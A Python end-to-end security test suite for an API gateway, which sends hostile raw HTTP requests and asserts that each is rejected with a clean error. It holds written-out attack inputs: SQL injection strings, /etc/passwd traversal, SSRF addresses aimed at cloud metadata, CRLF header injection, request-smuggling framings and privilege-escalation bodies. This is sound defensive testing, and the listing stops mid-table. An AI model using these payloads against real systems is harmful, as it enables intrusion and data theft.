"""Hostile requests over raw sockets: a 4xx in the envelope, nothing stored, nothing sent on."""

import base64
import contextlib
import gzip
import json
import re
import socket
import threading
import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

import pytest

from app.api.target import FORBIDDEN
from app.ids import encode_file, encode_unified, new_uuid
from tests.e2e.conftest import StartGateway
from tests.e2e.gateway import Gateway, Upstream, model, wait_until
from tests.e2e.inside import Watch, files_below, scratch_postgres

TYPES = {
    "invalid_request_error",
    "authentication_error",
    "permission_error",
    "not_found_error",
    "conflict_error",
    "rate_limit_error",
    "upstream_error",
    "server_error",
}
ALICE, ADMIN, FILE, FOREIGN = b"@ALICE@", b"@ADMIN@", b"@FILE@", b"@FOREIGN@"
BOUNDARY = b"XhostileX"
MULTIPART = b"Content-Type: multipart/form-data; boundary=" + BOUNDARY
JSON = b"Content-Type: application/json"
SQL = (
    "' OR 1=1--",
    "'; DROP TABLE files; --",
    '" OR ""="',
    "x' UNION SELECT token FROM keys--",
    "%' ESCAPE '\\",
    "$$; SELECT pg_sleep(9); $$",
    "1); ATTACH DATABASE '/tmp/x' AS x; --",
)
DEEP = b"[" * 200_000


@dataclass(frozen=True)
class Hostile:
    """One request. `raw` is all of it, byte for byte; else it is put together from the rest."""

    name: str
    method: bytes = b"POST"
    target: bytes = b"/v1/files"
    headers: tuple[bytes, ...] = ()
    body: bytes | Callable[[], bytes] = b""
    key: bytes | None = ALICE
    length: bytes | None = b"right"
    raw: bytes | Callable[[], bytes] | None = None
    wants: tuple[int, ...] = ()
    """The status codes that are right; none: any 4xx."""
    may_close: bool = False
    """Whether it is no HTTP, so that the connection may simply end."""
    is_upload: bool = False

    def on_the_wire(self, names: dict[bytes, bytes]) -> bytes:
        if self.raw is not None:
            return _filled(self.raw() if callable(self.raw) else self.raw, names)
        body = _filled(self.body() if callable(self.body) else self.body, names)
        lines = [self.method + b" " + self.target + b" HTTP/1.1", b"Host: gateway"]
        if self.key is not None:
            lines.append(b"Authorization: Bearer " + self.key)
        lines += self.headers
        if self.length == b"right" and (body or self.method not in (b"GET", b"HEAD")):
            lines.append(b"Content-Length: %d" % len(body))
        elif self.length not in (b"right", None):
            lines.append(b"Content-Length: " + self.length)
        lines.append(b"Connection: close")
        return _filled(b"\r\n".join(lines), names) + b"\r\n\r\n" + body


def _filled(raw: bytes, names: dict[bytes, bytes]) -> bytes:
    for name, value in names.items():
        raw = raw.replace(name, value)
    return raw


@dataclass(frozen=True)
class Answer:
    status: int
    headers: dict[str, str]
    body: bytes


def exchange(
    url: str, sent: bytes, *, then_stop: bool = False, timeout: float = 20.0
) -> list[Answer]:
    """Every answer to the bytes that were sent, until the server closes the connection.

    `then_stop` ends our half of it first: a server need not wait for the rest of a request.
    """
    host, port = url.removeprefix("http://").split(":")
    with socket.create_connection((host, int(port)), timeout=timeout) as sock:

        def send() -> None:
            # The server may have said what it has to say before it was sent everything.
            with contextlib.suppress(OSError):
                sock.sendall(sent)
                if then_stop:
                    sock.shutdown(socket.SHUT_WR)

        sending = threading.Thread(target=send)
        sending.start()
        received = bytearray()
        with contextlib.suppress(ConnectionResetError):
            while piece := sock.recv(65536):
                received += piece
        sending.join()
    return list(answers(bytes(received), is_head=sent.startswith(b"HEAD ")))


def answers(raw: bytes, is_head: bool = False) -> Iterator[Answer]:
    while raw:
        head, end, raw = raw.partition(b"\r\n\r\n")
        assert end, f"no whole head: {head[:200]!r}"
        first, *lines = head.decode("latin-1").split("\r\n")
        assert re.fullmatch(r"HTTP/1\.[01] [1-5]\d\d .*", first), first
        status = int(first.split()[1])
        headers = dict(re.split(r":\s*", line, maxsplit=1) for line in lines)
        headers = {name.lower(): value for name, value in headers.items()}
        if status == 100:
            continue
        length = int(headers["content-length"])
        # What is no HTTP is answered before its verb is known.
        assert len(raw) >= length or (is_head and not raw), "the body is shorter than it says"
        yield Answer(status, headers, raw[:length])
        raw = raw[length:]


def check_envelope(answer: Answer) -> dict[str, Any]:
    """The error, in OpenAI's envelope and with nothing of ours in it."""
    assert answer.headers["content-type"].startswith("application/json"), answer
    assert re.fullmatch(r"[A-Za-z0-9_.:-]{1,128}", answer.headers["x-request-id"])
    value = json.loads(answer.body)
    assert list(value) == ["error"], value
    error = value["error"]
    assert set(error) == {"message", "type", "param", "code"}, error
    assert isinstance(error["message"], str) and error["message"], error
    assert len(answer.body) < 4096, "an error need not repeat what it was sent"
    assert error["type"] in TYPES, error
    for name in ("param", "code"):
        assert error[name] is None or (isinstance(error[name], str) and error[name] != "None")
    for leaked in ("Traceback", "sqlalchemy", 'File "', " object at 0x", "SELECT files"):
        assert leaked not in error["message"], error
    return dict(error)


# -------------------------------------------------------------------- what is sent


def form(*parts: bytes, end: bytes = b"--\r\n") -> bytes:
    opened = b"".join(b"--" + BOUNDARY + b"\r\n" + part + b"\r\n" for part in parts)
    return opened + b"--" + BOUNDARY + end


def part(name: bytes, value: bytes, more: bytes = b"", headers: bytes = b"") -> bytes:
    disposition = b'Content-Disposition: form-data; name="' + name + b'"' + more
    return disposition + b"\r\n" + headers + b"\r\n" + value


PURPOSE = part(b"purpose", b"user_data")
TARGET = part(b"target_model_names", b"disk")
CONTENT = part(b"file", b"hostile content", b'; filename="a.txt"')


def upload(name: str, *parts: bytes, **more: Any) -> Hostile:
    return Hostile(name, headers=(MULTIPART,), body=form(*parts), is_upload=True, **more)


def multipart(name: str, body: bytes | Callable[[], bytes], **more: Any) -> Hostile:
    more.setdefault("headers", (MULTIPART,))
    return Hostile(name, body=body, is_upload=True, **more)


def json_body(
    name: str, body: object, target: bytes = b"/v1/chat/completions", **more: Any
) -> Hostile:
    raw = body if isinstance(body, bytes) or callable(body) else json.dumps(body).encode()
    return Hostile(name, target=target, headers=(JSON,), body=raw, **more)


def get(name: str, target: str | bytes, **more: Any) -> Hostile:
    raw = target if isinstance(target, bytes) else target.encode()
    return Hostile(name, method=more.pop("method", b"GET"), target=raw, **more)


WHOLE = form(PURPOSE, TARGET, CONTENT)

FORMS = [
    multipart("no boundary", WHOLE, headers=(b"Content-Type: multipart/form-data",), wants=(400,)),
    multipart(
        "an empty boundary",
        WHOLE,
        headers=(b"Content-Type: multipart/form-data; boundary=",),
        wants=(400,),
    ),
    multipart(
        "a boundary of 10 MB",
        WHOLE,
        headers=(b"Content-Type: multipart/form-data; boundary=" + b"a" * (10 << 20),),
        wants=(431,),
    ),
    multipart(
        "a boundary of 100,000 dashes",
        WHOLE,
        headers=(b"Content-Type: multipart/form-data; boundary=" + b"-" * 100_000,),
        wants=(431,),
    ),
    multipart(
        "a boundary of 8,000 dashes",
        b"-" * 500_000,
        headers=(b"Content-Type: multipart/form-data; boundary=" + b"-" * 8000,),
        wants=(400,),
    ),
    multipart(
        "dashes that look like the boundary",
        b"-" * 4_000_000,
        headers=(b"Content-Type: multipart/form-data; boundary=" + b"-" * 150,),
    ),
    multipart(
        "a boundary that is no ASCII",
        WHOLE,
        headers=("Content-Type: multipart/form-data; boundary=gr\u00fcn".encode(),),
        wants=(400,),
    ),
    multipart(
        "the wrong boundary",
        WHOLE,
        headers=(b"Content-Type: multipart/form-data; boundary=other",),
        wants=(400,),
    ),
    multipart(
        "two boundaries",
        WHOLE,
        headers=(b"Content-Type: multipart/form-data; boundary=a; boundary=b",),
        wants=(400,),
    ),
    multipart("no last boundary", form(PURPOSE, TARGET, CONTENT, end=b""), wants=(400,)),
    multipart("cut off within the file", WHOLE[:-30], wants=(400,)),
    multipart("cut off within a part's headers", form(PURPOSE)[:-70], wants=(400,)),
    multipart("null bytes only", b"\0" * 100_000, wants=(400,)),
    multipart("an empty body", b"", wants=(400,)),
    multipart("only the last boundary", b"--" + BOUNDARY + b"--\r\n", wants=(400,)),
    upload("a part without headers", PURPOSE, TARGET, CONTENT, b"\r\nnothing", wants=(400,)),
    upload(
        "a part without a name",
        PURPOSE,
        TARGET,
        CONTENT,
        b"Content-Disposition: form-data\r\n\r\nx",
        wants=(400,),
    ),
    upload(
        "a part of another disposition",
        PURPOSE,
        TARGET,
        CONTENT,
        b'Content-Disposition: attachment; filename="a"\r\n\r\nx',
        wants=(400,),
    ),
    upload(
        "a part with headers of 2 MB",
        PURPOSE,
        part(b"file", b"x", b'; filename="a"', b"X-Long: " + b"a" * (2 << 20) + b"\r\n"),
    ),
    upload(
        "a part with 50,000 headers",
        PURPOSE,
        TARGET,
        part(b"file", b"x", b'; filename="a"', b"A: b\r\n" * 400_000),
    ),
    upload("two files", PURPOSE, TARGET, CONTENT, CONTENT, wants=(400,)),
    upload(
        "a second file under another name",
        PURPOSE,
        TARGET,
        CONTENT,
        part(b"files", b"x", b'; filename="b"'),
        wants=(400,),
    ),
    upload("no file", PURPOSE, TARGET, wants=(400,)),
    upload("a file without a file name", PURPOSE, TARGET, part(b"file", b"content"), wants=(400,)),
    upload(
        "an empty file", PURPOSE, TARGET, part(b"file", b"", b'; filename="a.txt"'), wants=(400,)
    ),
    upload("no purpose", TARGET, CONTENT, wants=(400,)),
    upload("an empty purpose", TARGET, CONTENT, part(b"purpose", b""), wants=(400,)),
    upload("two purposes", PURPOSE, TARGET, CONTENT, part(b"purpose", b"assistants"), wants=(400,)),
    upload(
        "a purpose that is no UTF-8", TARGET, CONTENT, part(b"purpose", b"\xff\xfe"), wants=(400,)
    ),
    upload(
        "a purpose with a null byte",
        TARGET,
        CONTENT,
        part(b"purpose", b"user_data\0"),
        wants=(400,),
    ),
    upload("a purpose of 2 MB", TARGET, CONTENT, part(b"purpose", b"a" * (2 << 20)), wants=(413,)),
    upload("a purpose of 900 KB", TARGET, CONTENT, part(b"purpose", b"a" * 900_000), wants=(400,)),
    multipart(
        "10,000 parts",
        lambda: form(PURPOSE, TARGET, *[part(b"x", b"y")] * 10_000, CONTENT),
        wants=(413,),
    ),
    multipart(
        "a field of 50 MB",
        lambda: form(PURPOSE, TARGET, part(b"x", b"y" * (50 << 20)), CONTENT),
        wants=(413,),
    ),
    multipart(
        "a field name of 2 MB",
        lambda: form(PURPOSE, TARGET, part(b"x" * (2 << 20), b"y"), CONTENT),
    ),
    multipart(
        "multipart inside multipart",
        form(
            PURPOSE,
            TARGET,
            b'Content-Disposition: form-data; name="file"\r\n'
            b"Content-Type: multipart/mixed; boundary=in\r\n\r\n--in\r\n"
            b'Content-Disposition: file; filename="a.txt"\r\n\r\nx\r\n--in--\r\n',
        ),
        wants=(400,),
    ),
    multipart("JSON instead of a form", b'{"purpose": "user_data"}', headers=(JSON,), wants=(400,)),
    multipart(
        "a form in a URL's spelling",
        b"purpose=user_data&file=x",
        headers=(b"Content-Type: application/x-www-form-urlencoded",),
        wants=(400,),
    ),
    multipart("no content type", WHOLE, headers=(), wants=(400,)),
    multipart("a content type of nonsense", WHOLE, headers=(b"Content-Type: \x01;;;=,",)),
    multipart("a body in gzip", gzip.compress(WHOLE), wants=(400, 415)),
    multipart(
        "a body in gzip that says so",
        gzip.compress(WHOLE),
        headers=(MULTIPART, b"Content-Encoding: gzip"),
        wants=(400, 415),
    ),
    upload(
        "a forged encoding of the file name",
        TARGET,
        CONTENT,
        part(b"purpose", b"nonsense", b"; filename*=utf-7''%2e%2e"),
    ),
    *(
        upload(f"expires_after: {name}", PURPOSE, TARGET, CONTENT, part(*field), wants=(400,))
        for name, field in {
            "200,000 brackets": (b"expires_after", DEEP),
            "a list": (b"expires_after", b"[]"),
            "no JSON": (b"expires_after", b"{"),
            "infinite": (b"expires_after", b'{"anchor":"created_at","seconds":Infinity}'),
            "a giant": (b"expires_after", b'{"anchor":"created_at","seconds":' + b"9" * 5000),
            "a huge number": (b"expires_after[seconds]", b"9" * 100_000),
            "negative": (b"expires_after[seconds]", b"-3600"),
            "digits of another script": (b"expires_after[seconds]", "٣٦٠٠".encode()),
            "another anchor": (b"expires_after[anchor]", b"last_active_at"),
            "deep names": (b"expires_after" + b"[a]" * 1000, b"1"),
        }.items()
    ),
    upload(
        "expires_after: names without end",
        PURPOSE,
        TARGET,
        CONTENT,
        part(b"expires_after" + b"[a]" * 50_000, b"1"),
        wants=(413,),
    ),
    *(
        upload(f"target_model_names: {name}", PURPOSE, CONTENT, part(b"target_model_names", value))
        for name, value in {
            "200,000 brackets": DEEP,
            "half a list": b'["disk"',
            "a list of numbers": b"[1, 2]",
            "a list of lists": b'[["disk"]]',
            "unknown": b"disk,nothing-like-it",
            "all": b"*",
            "a pattern": b"d*k",
            "a path": b"../../etc/passwd",
            "semicolons": b"disk;unified_id,x",
            "line ends": b"disk\r\nX-Injected: 1",
            "right to left": "\u202ekisd".encode(),
            "a surrogate": b'["\\ud800"]',
            "100,000 names": b"disk," * 100_000 + b"nothing",
            "an address": b"http://169.254.169.254/",
        }.items()
    ),
    *(
        upload(
            f"SQL in a form's {name}: {text}",
            *others,
            part(name.encode(), text.encode()),
            wants=(400,),
        )
        for text in SQL
        for name, others in (
            ("purpose", (TARGET, CONTENT)),
            ("target_model_names", (PURPOSE, CONTENT)),
            ("model", (PURPOSE, CONTENT)),
            ("custom_llm_provider", (PURPOSE, CONTENT)),
        )
    ),
]

_DIRECTIONS = [
    *sorted(FORBIDDEN),
    "API_BASE",
    "api_base[]",
    "s3_bucket_name",
    "aws_secret_access_key",
    "aws_role_name",
    "vertex_credentials",
    "vertex_location",
    "gcs_bucket_name",
    "azure_ad_token",
]
EVIL = "http://169.254.169.254/latest"
CHAT = {"model": "gpt", "messages": [{"role": "user", "content": "hello"}]}

REDIRECTIONS = [
    case
    for name in _DIRECTIONS
    for case in (
        upload(
            f"{name} in a form",
            PURPOSE,
            part(b"model", b"gpt"),
            CONTENT,
            part(name.encode(), EVIL.encode()),
            wants=(400,),
        ),
        Hostile(
            f"{name} in an upload's query",
            target=f"/v1/files?model=gpt&{quote(name)}={quote(EVIL)}".encode(),
            headers=(MULTIPART,),
            body=form(PURPOSE, CONTENT),
            wants=(400,),
        ),
        get(
            f"{name} in a list's query",
            f"/v1/files?model=gpt&{quote(name)}={quote(EVIL)}",
            key=ADMIN,
            wants=(400,),
        ),
        json_body(f"{name} in chat", {**CHAT, name: EVIL}, wants=(400,)),
        json_body(f"{name} nested in chat", {**CHAT, name: {"api_base": EVIL}}, wants=(400,)),
        json_body(
            f"{name} in chat's query",
            CHAT,
            f"/v1/chat/completions?{quote(name)}={quote(EVIL)}".encode(),
            wants=(400,),
        ),
    )
] + [
    json_body(f"api_base in {path}", {**CHAT, "input": "x", "api_base": EVIL}, path.encode())
    for path in (
        "/chat/completions",
        "/v1/embeddings",
        "/v1/completions",
        "/v1/responses",
        "/engines/gpt/chat/completions",
        "/openai/deployments/gpt/chat/completions",
    )
]

IDS = {
    "dot dot": "..",
    "up": "../../../../etc/passwd",
    "escaped dots": "%2e%2e",
    "escaped path": "..%2f..%2f..%2fetc%2fpasswd",
    "escaped twice": "%252e%252e%252fkeys",
    "backslashes": "..%5c..%5cwindows",
    "semicolon": "file-abc;/../key/list",
    "semicolon alone": ";",
    "null byte": "file-abc%00.txt",
    "line ends": "file-abc%0d%0aX-Injected:%201",
    "a query": "file-abc%3fapi_base=http://evil",
    "a fragment": "file-abc%23x",
    "blank": "%20",
    "no UTF-8": "%ff%fe",
    "a broken escape": "%zz",
    "overlong dot": "%c0%ae%c0%ae%c0%af",
    "right to left": quote("\u202egpj.exe"),
    "emoji": quote("📁"),
    "a dash": "-",
    "padding": "file-====",
    "a bucket and out of it": quote("s3://bucket/../key", safe=""),
    "forged: another account": encode_file("file-abc", "gpt"),
    "forged: up": encode_file("../../key/list", "gpt"),
    "forged: an address": encode_file("http://evil/", "gpt"),
    "forged: an unknown model": encode_file("file-abc", "no such model"),
    "forged: in itself": encode_file(encode_file("file-abc", "gpt"), "gpt"),
    "forged: unified": encode_unified("text/plain", new_uuid(), ["disk"]),
    "forged: SQL for a uuid": base64.urlsafe_b64encode(
        b"litellm_proxy:a;unified_id,' OR 1=1--;target_model_names,disk"
    )
    .decode()
    .rstrip("="),
    "forged: surrogates": "file-"
    + base64.urlsafe_b64encode(b"litellm:\xed\xa0\x80;model,g").decode(),
    "8,000 characters": "a" * 8000,
    **{f"SQL {text}": quote(text, safe="") for text in SQL},
}
ODD_FILE_IDS: tuple[object, ...] = (1, 1e300, True, [], {"x": 1})
_VERBS = ((b"GET", ""), (b"GET", "/content"), (b"DELETE", ""), (b"POST", "/delete"))

IDENTIFIERS = [
    *(
        get(f"id {name}: {verb.decode()} {rest}", f"/v1/files/{text}{rest}", method=verb)
        for name, text in IDS.items()
        for verb, rest in _VERBS
    ),
    *(
        get(
            f"admin's id {name}: {verb.decode()} {rest}",
            f"/v1/files/{text}{rest}",
            method=verb,
            key=ADMIN,
        )
        for name, text in IDS.items()
        if name not in ("a dash", "forged: another account", "forged: in itself")
        for verb, rest in _VERBS
    ),
    get("an id of 4 MB", b"/v1/files/" + b"a" * (4 << 20), wants=(414,)),
    get("an id of 100 KB", b"/v1/files/" + b"a" * 100_000, wants=(414,)),
    get("somebody else's id", b"/v1/files/" + FOREIGN, wants=(403,)),
    get("somebody else's content", b"/v1/files/" + FOREIGN + b"/content", wants=(403,)),
    get("delete somebody else's", b"/v1/files/" + FOREIGN, method=b"DELETE", wants=(403,)),
    get("an id with a flipped end", b"/v1/files/" + FILE + b"A", wants=(404,)),
    get("include of SQL", b"/v1/files/" + FILE + b"?include=' OR 1=1--".replace(b" ", b"%20")),
    json_body(
        "somebody else's file in chat",
        b'{"model":"gpt","messages":[{"role":"user","content":'
        b'[{"type":"file","file":{"file_id":"' + FOREIGN + b'"}}]}]}',
        wants=(403,),
    ),
    *(
        json_body(
            f"id {name} in chat",
            {
                "model": "gpt",
                "messages": [
                    {"role": "user", "content": [{"type": "file", "file": {"file_id": text}}]}
                ],
            },
        )
        for name, text in {**IDS, "4 MB": "a" * (4 << 20), "a surrogate": "\ud800"}.items()
    ),
    *(
        json_body(
            f"file_id is {value!r}",
            {
                "model": "gpt",
                "messages": [
                    {"role": "user", "content": [{"type": "file", "file": {"file_id": value}}]}
                ],
            },
            wants=(400,),
        )
        for value in ODD_FILE_IDS
    ),
]

_QUERIES = {
    "limit": (
        *("0", "-1", "10001", "abc", "1e3", "", "1.5", "%00", "0x10", "+5", "9" * 4000, "1_0"),
        *(quote("١٢"), quote("²"), "null", "NaN", "--5"),
    ),
    "order": ("up", "DESC", "", "asc,desc", "%00", "desc--"),
    "purpose": ("bacth", "", "*", "%00", "batch,vision"),
    "after": ("nothing", "", "%00", "..", "a" * 5000, "%ff", encode_file("x", "gpt")),
}
LISTS = [
    *(
        get(f"{name}={value[:40]}", f"/v1/files?{name}={value}", wants=(400,))
        for name, values in _QUERIES.items()
        for value in values
    ),
    *(
        get(f"SQL in {name}: {text}", f"/v1/files?{name}={quote(text)}")
        for text in SQL
        for name in (*_QUERIES, "user_id", "model", "target_model_names", "custom_llm_provider")
    ),
    get("after somebody else's file", b"/v1/files?after=" + FOREIGN, wants=(400,)),
    get("two limits", "/v1/files?limit=1&limit=2", wants=(400,)),
    get("someone else's files", "/v1/files?user_id=bob", wants=(403,)),
    get("4,000 parameters", "/v1/files?limit=0&" + "a=b&" * 1900, wants=(400,)),
    get("a list with a body of brackets", "/v1/files", body=DEEP, wants=(400,)),
    get("a list with a list for a body", "/v1/files", body=b"[1]", wants=(400,)),
    get("a list with NaN for a model", "/v1/files", body=b'{"model": "x", "y": NaN}'),
    get("a list with api_base in its body", "/v1/files", body=b'{"api_base": "x"}', wants=(400,)),
    *(
        get(f"SQL in {path}: {text}", f"{path}={quote(text)}", key=ADMIN, wants=(200, 400, 404))
        for text in SQL
        for path in (
            "/v1/files?user_id",
            "/key/list?user_id",
            "/key/list?key_alias",
            "/key/info?key",
            "/user/info?user_id",
            "/user/list?user_email",
            "/user/list?role",
            "/key/list?page",
        )
    ),
    *(
        get(
            f"{path}{value[:30]} ({len(value)})", f"{path}{value}", key=ADMIN, wants=(200, 400, 404)
        )
        for path in ("/key/list?page=", "/key/list?size=", "/user/list?page=", "/user/list?size=")
        for value in ("0", "-1", "101", "abc", "", "9" * 30, "9" * 4000, "1e3", "%00", "NaN")
        if not (path.endswith("page=") and value == "101")
    ),
    *(
        get(f"{path} {name}", f"{path}={value}", key=ADMIN, wants=(200, 400, 404))
        for name, value in {"a null byte": "a%00b", "no UTF-8": "%ff", "5,000": "a" * 5000}.items()
        for path in (
            "/v1/files?user_id",
            "/v1/files?model",
            "/v1/files?custom_llm_provider",
            "/key/list?user_id",
            "/key/list?key_alias",
            "/key/info?key",
            "/user/info?user_id",
            "/user/list?user_email",
        )
    ),
]

ODD_MODELS: tuple[object, ...] = (
    *(1, None, [], {}, True, "", " ", "*", "gpt*", "\ud800", "\0", "../gpt", "a" * 1_000_000),
    *("http://evil/", "openai/*", "gpt;x", "\u202e", *SQL),
)
_SURROGATE = b'"\\ud800"'
BODIES = [
    *(
        case
        for path in ("/v1/chat/completions", "/v1/embeddings", "/v1/responses", "/v1/completions")
        for case in (
            json_body(f"{path}: brackets", DEEP, path.encode(), wants=(400,)),
            json_body(
                f"{path}: deep objects",
                b'{"model":"gpt","messages":' + b'{"a":' * 200_000,
                path.encode(),
                wants=(400,),
            ),
            json_body(f"{path}: empty", b"", path.encode(), wants=(400,)),
            json_body(f"{path}: a list", b"[]", path.encode(), wants=(400,)),
            json_body(f"{path}: null", b"null", path.encode(), wants=(400,)),
            json_body(f"{path}: NaN", b'{"model":"gpt","x":NaN}', path.encode(), wants=(400,)),
            json_body(f"{path}: two objects", b"{}{}", path.encode(), wants=(400,)),
            json_body(f"{path}: no UTF-8", b'{"model":"\xff\xfe"}', path.encode(), wants=(400,)),
            json_body(
                f"{path}: UTF-16", json.dumps(CHAT).encode("utf-16"), path.encode(), wants=(400,)
            ),
            json_body(
                f"{path}: duplicate keys",
                b'{"model":"gpt","model":"disk","messages":[]}',
                path.encode(),
                wants=(400,),
            ),
            json_body(
                f"{path}: an escaped duplicate",
                b'{"model":"gpt","mod\\u0065l":"disk","messages":[]}',
                path.encode(),
                wants=(400,),
            ),
            json_body(f"{path}: gzip", gzip.compress(b"{}"), path.encode(), wants=(400, 415)),
            json_body(f"{path}: no model", {"messages": []}, path.encode(), wants=(400,)),
            *(
                json_body(
                    f"{path}: model {str(value)[:20]!a}",
                    {"model": value, "messages": [], "input": "x", "prompt": "x"},
                    path.encode(),
                )
                for value in ODD_MODELS
            ),
        )
    ),
    json_body("a key of half a pair", b'{"model":"gpt","azure_\\ud800":1}', wants=(400,)),
    json_body("half a pair twice", b'{"\\ud800":1,"\\ud800":1}', wants=(400,)),
    json_body("a key of 1 MB twice", b'{"' + b"a" * 1000000 + b'":1,"' + b"a" * 1000000 + b'":2}'),
    json_body("a giant number", b'{"model":"no","x":' + b"9" * 100_000 + b"}", wants=(400,)),
    json_body("1e999999", b'{"model":"no","x":1e999999}', wants=(400,)),
    json_body("130 MB", lambda: b'{"model":"gpt","x":"' + b"a" * (130 << 20) + b'"}', wants=(413,)),
    *(
        json_body(f"{path}: {name}", body, path.encode(), key=ADMIN, wants=(400, 404, 413))
        for path in (
            "/user/new",
            "/user/update",
            "/user/delete",
            "/key/generate",
            "/key/update",
            "/key/delete",
            "/key/block",
            "/key/unblock",
            "/key/regenerate",
        )
        for name, body in {
            "brackets": DEEP,
            "empty": b"",
            "a list": b"[]",
            "a string": b'"x"',
            "NaN": b'{"metadata":{"a":NaN}}',
            "no JSON": b"user_id=x",
            "no UTF-8": b'{"user_id":"\xff"}',
            "a surrogate": b'{"user_id":' + _SURROGATE + b',"key":' + _SURROGATE + b"}",
            "a surrogate alias": b'{"user_alias":'
            + _SURROGATE
            + b',"key_alias":'
            + _SURROGATE
            + b"}",
            "surrogate metadata": b'{"key":"x","user_id":"nobody","metadata":{"a":'
            + _SURROGATE
            + b'},"unknown":1}',
            "null bytes": b'{"user_id":"a\\u0000b","key":"a\\u0000b"}',
            "a null byte in metadata": b'{"user_id":"nobody","key":"x","metadata":{"a":"\\u0000"},'
            b'"unknown":1}',
            "2 MB": b'{"user_id":"' + b"a" * (2 << 20) + b'"}',
            "a long id": b'{"user_id":"' + b"a" * 100_000 + b'","key":"' + b"a" * 100_000 + b'"}',
            "giant numbers": b'{"user_id":' + b"9" * 5000 + b"}",
            "wrong types": b'{"user_id":{"a":1},"key":[1],"models":{"a":1},"metadata":[]}',
            "a field nobody knows": b'{"user_id":"nobody","key":"x","api_base":"http://evil"}',
            "a role nobody has": b'{"user_id":"nobody","key":"x","user_role":"superuser"}',
            "an endless duration": b'{"user_id":"nobody","key":"x","duration":"999999999mo",'
            b'"grace_period":"999999999mo"}',
            "gzip": gzip.compress(b'{"user_id":"packed"}'),
        }.items()
    ),
    *(
        json_body(
            f"{path} {list(body)}: SQL {text}", body, path.encode(), key=ADMIN, wants=(400, 404)
        )
        for text in SQL
        for path, body in (
            ("/user/update", {"user_id": text, "user_alias": text}),
            ("/user/delete", {"user_ids": [text]}),
            ("/key/update", {"key": text, "key_alias": text}),
            ("/key/delete", {"keys": [text]}),
            ("/key/delete", {"key_aliases": [text]}),
            ("/key/block", {"key": text}),
            ("/key/regenerate", {"key_alias": text}),
            ("/user/new", {"user_id": text, "user_role": text}),
            ("/key/generate", {"key_alias": text, "duration": text}),
        )
    ),
    *(
        json_body(f"alice: {path} {list(body)}", body, path.encode(), wants=(400, 403, 404))
        for path, body in (
            ("/user/new", {"user_id": "mallory"}),
            ("/user/update", {"user_id": "alice", "user_role": "proxy_admin"}),
            ("/user/delete", {"user_ids": ["bob"]}),
            ("/key/generate", {"user_id": "bob"}),
            ("/key/generate", {"user_role": "proxy_admin"}),
            ("/key/unblock", {"key": "x"}),
        )
    ),
]


def line(target: str, version: str = "HTTP/1.1") -> bytes:
    return f"GET {target} {version}\r\nHost: gateway\r\n".encode()


def _post(*headers: bytes, body: bytes = b"", target: bytes = b"/v1/files") -> bytes:
    head = [b"POST " + target + b" HTTP/1.1", b"Host: gateway", b"Authorization: Bearer " + ALICE]
    return b"\r\n".join([*head, *headers]) + b"\r\n\r\n" + body


def chunked(*pieces: bytes) -> bytes:
    return b"".join(b"%x\r\n%s\r\n" % (len(p), p) for p in pieces) + b"0\r\n\r\n"


_TE = b"Transfer-Encoding: chunked"
_SMUGGLED = b"GET /user/list HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer " + ADMIN + b"\r\n\r\n"
FRAMING = {
    "Content-Length too long": _post(MULTIPART, b"Content-Length: 9999", body=WHOLE),
    "Content-Length too short": _post(MULTIPART, b"Content-Length: 40", body=WHOLE),
    "Content-Length beyond the limit": _post(MULTIPART, b"Content-Length: 99999999999", body=WHOLE),
    "Content-Length of 30 digits": _post(MULTIPART, b"Content-Length: " + b"9" * 30, body=WHOLE),
    "Content-Length of 6,000 digits": _post(MULTIPART, b"Content-Length: " + b"9" * 6000),
    "a negative Content-Length": _post(MULTIPART, b"Content-Length: -1", body=WHOLE),
    "Content-Length with a plus": _post(MULTIPART, b"Content-Length: +5", body=WHOLE),
    "Content-Length in hex": _post(MULTIPART, b"Content-Length: 0x10", body=WHOLE),
    "Content-Length of nothing": _post(MULTIPART, b"Content-Length:", body=WHOLE),
    "Content-Length of letters": _post(MULTIPART, b"Content-Length: many", body=WHOLE),
    "two Content-Lengths": _post(
        MULTIPART, b"Content-Length: 10", b"Content-Length: 20", body=WHOLE
    ),
    "a list of Content-Lengths": _post(MULTIPART, b"Content-Length: 10, 20", body=WHOLE),
    "JSON shorter than promised": _post(
        JSON, b"Content-Length: 500", body=b'{"model":"gpt"', target=b"/v1/chat/completions"
    ),
    "admin JSON shorter than promised": _post(
        JSON, b"Content-Length: 500", body=b'{"user_id":"x"}', target=b"/user/new"
    ),
    "a length and chunks": _post(
        MULTIPART, b"Content-Length: 10", _TE, body=chunked(WHOLE) + _SMUGGLED
    ),
    "chunks and a length": _post(
        MULTIPART, _TE, b"Content-Length: %d" % len(WHOLE), body=WHOLE + _SMUGGLED
    ),
    "chunks twice": _post(MULTIPART, _TE, _TE, body=chunked(WHOLE)),
    "chunks by another name": _post(MULTIPART, b"Transfer-Encoding: xchunked", body=chunked(WHOLE)),
    "gzip, then chunks": _post(
        MULTIPART, b"Transfer-Encoding: gzip, chunked", body=chunked(gzip.compress(WHOLE))
    ),
    "chunks, then gzip": _post(MULTIPART, b"Transfer-Encoding: chunked, gzip", body=chunked(WHOLE)),
    "chunked with a vertical tab": _post(
        MULTIPART, b"Transfer-Encoding:\x0bchunked", body=chunked(WHOLE)
    ),
    "a blank before the colon": _post(
        MULTIPART, b"Transfer-Encoding : chunked", body=chunked(WHOLE)
    ),
    "a chunk without a size": _post(MULTIPART, _TE, body=b"\r\nabc\r\n0\r\n\r\n"),
    "a chunk of size zz": _post(MULTIPART, _TE, body=b"zz\r\nabc\r\n0\r\n\r\n"),
    "a negative chunk": _post(MULTIPART, _TE, body=b"-3\r\nabc\r\n0\r\n\r\n"),
    "a chunk with a 0x": _post(MULTIPART, _TE, body=b"0x3\r\nabc\r\n0\r\n\r\n"),
    "a chunk of 2^64": _post(MULTIPART, _TE, body=b"FFFFFFFFFFFFFFFFF\r\nabc\r\n0\r\n\r\n"),
    "a chunk of many digits": _post(MULTIPART, _TE, body=b"f" * 5000 + b"\r\nabc\r\n"),
    "a chunk longer than it says": _post(MULTIPART, _TE, body=b"2\r\nabcdef\r\n0\r\n\r\n"),
    "a chunk shorter than it says": _post(MULTIPART, _TE, body=b"ff\r\nabc\r\n0\r\n\r\n"),
    "a chunk extension without an end": _post(MULTIPART, _TE, body=b"3;" + b"a" * 3_000_000),
    "chunks without an end": _post(MULTIPART, _TE, body=chunked(WHOLE)[:-5]),
    "endless trailers": _post(
